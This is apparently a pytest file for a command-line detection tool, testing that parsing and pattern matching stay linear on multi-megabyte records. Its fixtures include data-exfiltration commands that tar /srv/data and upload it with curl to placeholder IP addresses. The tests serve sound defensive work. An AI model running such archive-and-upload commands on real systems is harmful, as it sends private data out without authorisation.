"""Class 7 of issue 11 (first half): what one record costs to analyse is bounded. Tokenising
is one pass over at most MAX_COMMAND characters (shlex built every word by concatenation: a
2 MB argument took 40 s of CPU); script text is cut to MAX_SCRIPT and the catalog's patterns
have no unbounded repetition an attacker could make quadratic; long lines are not cached."""

from __future__ import annotations

import re
import sys
from pathlib import Path
from types import FrameType
from typing import Any

import pytest

from tests.adversarial.exec_records import write
from tests.builders import launch
from tidewaiter.cli.main import main
from tidewaiter.detection import cmdline
from tidewaiter.detection.catalog import load
from tidewaiter.detection.signals import Detector, SignalKind

TWO_MB = 2 * 1024 * 1024


def _opcodes(function: Any, *args: Any) -> int:
    """Bytecode instructions executed by ``function`` and what it calls: a measure of work
    that does not depend on how loaded the machine is."""
    count = 0

    def trace(frame: FrameType, event: str, arg: object) -> Any:
        nonlocal count
        frame.f_trace_opcodes = True
        if event == "opcode":
            count += 1
        return trace

    sys.settrace(trace)
    try:
        function(*args)
    finally:
        sys.settrace(None)
    return count


@pytest.mark.parametrize(
    "unit",
    ["A", "'a'", '"a\\"b"', "a\\ ", "x;|", "#c\n"],
    ids=["word", "single-quoted", "escaped-quotes", "escaped-blank", "operators", "comments"],
)
def test_tokenising_work_grows_linearly_with_the_line(unit: str) -> None:
    small = "tar " + unit * (5_000 // len(unit))
    large = "tar " + unit * (50_000 // len(unit))

    ratio = _opcodes(cmdline.tokenize, large, True) / _opcodes(cmdline.tokenize, small, True)

    assert 8 < ratio < 12  # ten times the text, ten times the work


def test_a_two_megabyte_command_line_is_analysed_up_to_the_bound_and_says_so() -> None:
    cmd = "curl -T /tmp/a.tgz https://203.0.113.7/" + "A" * TWO_MB
    argv = cmdline.split_command(cmd, "/usr/bin/curl")
    assert sum(len(a) + 1 for a in argv) <= cmdline.MAX_COMMAND + 1

    [upload] = Detector().signals(launch(cmd))

    assert upload.kind is SignalKind.UPLOAD
    assert f"analysed up to {cmdline.MAX_COMMAND}" in upload.explanation
    assert f"command line of {len(cmd)} characters" in upload.explanation


def test_long_command_lines_are_not_kept_in_the_split_cache() -> None:
    cmdline._split_cached.cache_clear()
    cmdline.split_command("tar czf /tmp/a.tgz " + "B" * 100_000, "/bin/tar")
    assert cmdline._split_cached.cache_info().currsize == 0


def test_the_catalog_patterns_have_no_unbounded_repetition() -> None:
    """`.*` or `[^)]*` after a word the text can repeat rescans the rest of the text at every
    occurrence: bounded repetitions keep a search linear in the (bounded) text."""
    unbounded = re.compile(r"(?<!\\)(?:\.|\[\^(?:\\.|[^\]])*\])[*+]")
    catalog = load()
    patterns = [p for _, p, o in catalog.scripts for p in (p, o) if p is not None]
    patterns += [p for _, p, d in catalog.script_transfers for p in (p, d)]
    offenders = [p.pattern for p in patterns if unbounded.search(p.pattern)]
    assert offenders == []


@pytest.mark.parametrize("fmt", ["tetragon", "falco"])
def test_a_two_megabyte_record_does_not_hide_the_exfil_after_it(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], fmt: str
) -> None:
    huge = ["/usr/bin/curl", "-T", "/tmp/x", "https://198.51.100.9/" + "A" * TWO_MB]
    path = write(
        tmp_path,
        fmt,
        [
            ["/bin/ls", "/srv"],  # a first line the format is recognised by (issue 11, class 9)
            huge,
            ["/bin/tar", "-czf", "/tmp/a.tgz", "/srv/data"],
            ["/usr/bin/curl", "-sT", "/tmp/a.tgz", "https://203.0.113.7/upload"],
        ],
    )

    assert main(["detect", "--json", "--fail-on-alert", str(path)]) == 1
    assert "Traceback" not in capsys.readouterr().err
